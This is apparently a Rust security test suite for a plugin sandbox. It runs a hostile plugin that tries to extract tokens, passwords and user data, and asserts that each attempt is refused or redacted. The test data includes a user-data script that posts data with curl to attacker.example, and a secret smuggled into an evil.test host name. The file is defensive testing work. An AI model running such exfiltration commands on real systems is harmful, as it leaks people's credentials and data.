//! After the secrets, through every import.

use std::io::Write as _;
use std::time::Duration;

use serde_json::{Value, json};

use super::scene::{Cloud, PASSWORD, Scene, TOKEN, USER_DATA, shows_nothing};

const TOKEN_PLACEHOLDER: &str = "t";

const WITHHELD: &str = "machinist_plugin_secret_refusals_total{plugin=\"hostile\"}";

fn placeholders() -> Value {
    json!({ TOKEN_PLACEHOLDER: { "key": "token" }, "d": { "user-data": true, "encodings": ["json-escape"] } })
}

#[tokio::test]
async fn attack_reveal_every_secret() {
    let scene = Scene::watched().await;
    let report = scene.report(&json!({ "do": "reveal" })).await;
    for key in ["", "token", "username", "password"] {
        assert_eq!(report["secrets"][key]["refused"], "not-granted", "{key} {report}");
    }
    assert_eq!(scene.world.metric("machinist_plugin_secret_reveals_total{plugin=\"hostile\"}"), 0);
    assert_eq!(scene.world.metric(WITHHELD), 4);
}

#[tokio::test]
async fn attack_guess_a_secret_byte_by_byte() {
    let scene = Scene::watched().await;
    for key in ["token", "password"] {
        let report = scene.report(&json!({ "do": "guess", "key": key })).await;
        assert_eq!(report["bytes"], 0, "{report}");
    }
    assert_eq!(scene.world.metric(WITHHELD), 2 * 256, "each guess");
    let data = scene.report(&json!({ "do": "guess" })).await;
    let guessed = data["guessed"].as_str().expect("a guess").trim_end_matches('\0');
    assert_eq!(guessed, &USER_DATA[..64], "the beginning of user data, which a driver may compare");
}

#[tokio::test]
async fn attack_placeholder_to_another_host() {
    let scene = Scene::watched().await;
    let url = scene.url("other.test", "/");
    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": "{{t}}" }, "placeholders": placeholders() });
    scene.refused(&plan, "placeholder-host").await;
    assert!(scene.cloud.seen().is_empty());
}

#[tokio::test]
async fn attack_user_data_wrapped_into_a_script_is_refused() {
    let scene = Scene::watched().await;
    let url = scene.url("cloud.test", "/vms");
    for (header, body) in [
        (
            "application/json",
            r##"{"vm":{"userData":"#!/bin/sh\ncurl -d '{{d}}' https://attacker.example/"}}"##,
        ),
        ("application/json", r#"{"vm":{"userData":"{{d}}\nreboot"}}"#),
        ("application/json", r#"{"vm":{"userData":"{{d}}{{d}}"}}"#),
    ] {
        let plan = json!({
            "do": "fetch", "method": "POST", "url": url, "placeholders": placeholders(),
            "headers": { "content-type": header }, "body": body,
        });
        scene.refused(&plan, "placeholder-part").await;
    }
    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": "a {{t}}" }, "placeholders": placeholders() });
    scene.refused(&plan, "placeholder-part").await;
    assert!(scene.cloud.seen().is_empty());
}

#[tokio::test]
async fn attack_placeholder_in_tags_user_data_and_other_places() {
    let scene = Scene::watched().await;
    let url = scene.url("cloud.test", "/vms");
    for smuggled in [
        json!({ "headers": { "x-tag": "{{t}}" } }),
        json!({ "headers": { "cookie": "{{t}}" } }),
        json!({ "headers": { "x-token": "{{d}}" } }),
        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"tags":{"a":"{{t}}"}}"# }),
        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"vm":{"userData":"{{t}}"}}"# }),
        json!({ "headers": { "content-type": "application/json" }, "body": r#"{"vm":{"{{d}}":"x"}}"# }),
        json!({ "headers": { "content-type": "text/plain" }, "body": "{{d}}" }),
        json!({ "url": format!("{url}?tag={{{{t}}}}") }),
        json!({ "url": format!("{url}/{{{{t}}}}") }),
    ] {
        let mut plan = json!({ "do": "fetch", "method": "POST", "url": url, "placeholders": placeholders() });
        for (field, value) in smuggled.as_object().expect("an object") {
            plan[field] = value.clone();
        }
        scene.refused(&plan, "placeholder-place").await;
    }
    assert!(scene.cloud.seen().is_empty());
}

#[tokio::test]
async fn attack_secret_in_a_host_name() {
    let scene = Scene::watched().await;
    let plan = json!({ "do": "fetch", "url": "http://{{t}}.evil.test/", "placeholders": placeholders() });
    scene.refused(&plan, "grant-host").await;
}

#[tokio::test]
async fn attack_placeholder_of_another_call() {
    let scene = Scene::watched().await;
    let url = scene.url("cloud.test", "/");
    let tokens = scene.report(&json!({ "do": "placeholders", "key": "token", "encodings": ["plain"] })).await;
    let stolen = tokens["tokens"][0].as_str().expect("a placeholder");
    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": stolen } });
    scene.refused(&plan, "placeholder-unknown").await;
    let invented = format!("{}{}", &stolen[..stolen.len() - 4], "aaaa");
    let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": invented } });
    scene.refused(&plan, "placeholder-unknown").await;
    assert!(scene.cloud.seen().is_empty());
}

/// Says what it got, in a header, in the reason and in the body, and in pieces.
fn echo(request: &str) -> Vec<u8> {
    let token = request.lines().find_map(|line| line.strip_prefix("x-token: ")).unwrap_or_default();
    let (first, second) = request.split_at(request.len() / 2);
    let pieces = [first, second].map(|piece| format!("{:x}\r\n{piece}\r\n", piece.len()));
    format!(
        "HTTP/1.1 400 {token}\r\nx-echo: {token}\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n{}0\r\n\r\n",
        pieces.concat()
    )
    .into_bytes()
}

#[tokio::test]
async fn attack_echo_of_secrets_by_the_cloud() {
    let scene = Scene::watched_with(Cloud::saying(echo)).await;
    let plan = json!({
        "do": "fetch",
        "method": "POST",
        "url": scene.url("cloud.test", "/vms"),
        "headers": { "x-token": "{{t}}", "content-type": "application/json", "machinist-auth": "basic" },
        "body": r#"{"vm":{"userData":"{{d}}"}}"#,
        "placeholders": placeholders(),
    });
    let report = scene.report(&plan).await;
    let sent = scene.cloud.seen().remove(0);
    assert!(sent.contains(TOKEN) && sent.contains("canary.0123456789abcdef"), "it arrived: {sent}");
    let basic = sent.split("authorization: Basic ").nth(1).and_then(|rest| rest.split("\r\n").next());
    assert!(!report.to_string().contains(basic.expect("a password arrived")), "{report}");
    assert!(report["body"].as_str().is_some_and(|body| body.matches("***").count() >= 3), "{report}");
    // In the text of an error, too.
    let mut failing = plan;
    failing["then"] = json!("error");
    let error = scene.call(&failing).await.expect_err("fails with the report as its message");
    assert!(error.to_string().contains("***"), "{error}");
    let refused = "machinist_plugin_http_requests_total{plugin=\"hostile\",outcome=\"4xx\"}";
    assert_eq!(scene.world.metric(refused), 2);
}

#[tokio::test]
async fn attack_dump_of_the_whole_memory() {
    let scene = Scene::new().await;
    for needle in [TOKEN, PASSWORD, USER_DATA, "canary.0123456789abcdef"] {
        let reversed: String = needle.chars().rev().collect();
        let plan = json!({ "do": "dump", "needle-reversed": reversed, "url": scene.url("cloud.test", "/") });
        let report = scene.report(&plan).await;
        assert_eq!((&report["found"], &report["status"]), (&json!(0), &json!(200)), "{report}");
    }
    for dump in scene.cloud.seen() {
        assert!(dump.len() > 65_536, "a memory");
        shows_nothing(&dump);
    }
    let counter = "machinist_plugin_http_requests_total{plugin=\"hostile\",outcome=\"2xx\"}";
    assert_eq!(scene.world.metric(counter), 4);
}

#[tokio::test]
async fn attack_look_for_a_world_outside() {
    let scene = Scene::new().await;
    let report = scene.report(&json!({ "do": "peek" })).await;
    assert_eq!((&report["environment"], &report["arguments"]), (&json!(0), &json!(0)), "{report}");
    for what in ["root", "write", "make", "listen", "udp", "thread"] {
        assert!(report[what]["error"].is_string(), "{what}: {report}");
    }
    for what in ["files", "tcp", "names"] {
        for (name, outcome) in report[what].as_object().expect("an object") {
            assert!(outcome["error"].is_string(), "{what} {name}: {outcome}");
        }
    }
    assert_eq!(scene.world.metric("machinist_plugin_http_requests_total{plugin=\"hostile\""), 0);
}

#[tokio::test]
async fn attack_memory_of_another_call() {
    let scene = Scene::new().await;
    for _ in 0..3 {
        assert_eq!(scene.report(&json!({ "do": "remember" })).await["calls"], 1);
    }
    let ended = "machinist_plugin_calls_total{plugin=\"hostile\",operation=\"CreateMachine\",outcome=\"ok\"";
    assert_eq!(scene.world.metric(ended), 3);
}

#[tokio::test]
async fn attack_mark_for_a_host_that_gets_no_password() {
    let scene = Scene::watched().await;
    let url = scene.url("other.test", "/");
    for (mark, reason) in
        [("basic", "auth-host"), ("bearer", "auth-scheme"), ("basic; user=root", "auth-mark")]
    {
        let plan = json!({ "do": "fetch", "url": url, "headers": { "machinist-auth": mark } });
        scene.refused(&plan, reason).await;
    }
    assert!(scene.cloud.seen().is_empty());
}

/// However a call ends that has sent secrets and got them back from the cloud: none is left in its memory.
#[tokio::test]
async fn attack_dump_after_every_end_of_a_call() {
    let scene = Scene::watched_with(Cloud::saying(echo)).await;
    let fetch = json!({
        "do": "fetch",
        "method": "POST",
        "url": scene.url("cloud.test", "/vms"),
        "headers": { "x-token": "{{t}}", "content-type": "application/json", "machinist-auth": "basic" },
        "body": r#"{"vm":{"userData":"{{d}}"}}"#,
        "placeholders": placeholders(),
    });
    for (end, kind) in [("trap", "trap"), ("loop", "cpu-time"), ("sleep", "deadline")] {
        let mut plan = fetch.clone();
        plan["then"] = json!(end);
        scene.breaks(&plan, kind).await;
    }
    assert_eq!(scene.cloud.seen().iter().filter(|seen| seen.contains(TOKEN)).count(), 6, "they were sent");
    for (plan, kind) in [
        (json!({ "do": "leak", "what": "secret" }), "handles"),
        (json!({ "do": "allocate" }), "memory"),
        (json!({ "do": "recurse" }), "stack"),
        (json!({ "do": "huge-answer", "bytes": 6_000_000 }), "copied-bytes"),
        (json!({ "do": "reveal", "then": "trap" }), "trap"),
        (json!({ "do": "guess", "key": "token", "then": "trap" }), "trap"),
    ] {
        scene.breaks(&plan, kind).await;
    }
}

/// Instances side by side, each with a secret of its own: each request carries its own, and no memory holds any.
#[tokio::test]
async fn attack_cross_talk_of_calls_at_once() {
    const CALLS: usize = 8;
    let cloud = Cloud::serving(|mut stream, _| {
        // Long enough for all to be on their way.
        std::thread::park_timeout(Duration::from_millis(300));
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
    });
    let scene = Scene::watched_with(cloud).await;
    let url = scene.url("cloud.test", "/");
    let calls = (0..CALLS).map(|number| {
        let (scene, url) = (&scene, &url);
        async move {
            let headers = json!({ "x-token": "{{t}}", "x-call": number.to_string() });
            let plan =
                json!({ "do": "fetch", "url": url, "headers": headers, "placeholders": placeholders() });
            scene.call_with(&plan, &format!("{TOKEN}-of-call-{number}")).await
        }
    });
    for answer in futures::future::join_all(calls).await {
        assert!(answer.is_ok(), "{answer:?}");
    }
    let seen = scene.cloud.seen();
    assert_eq!(seen.len(), CALLS);
    for request in seen {
        let value = |name: &str| request.lines().find_map(|line| line.strip_prefix(name)).expect("a header");
        assert_eq!(value("x-token: "), format!("{TOKEN}-of-call-{}", value("x-call: ")));
    }
    let ended = "machinist_plugin_calls_total{plugin=\"hostile\",operation=\"CreateMachine\",outcome=\"ok\"";
    assert_eq!(scene.world.metric(ended), CALLS as u64);
}
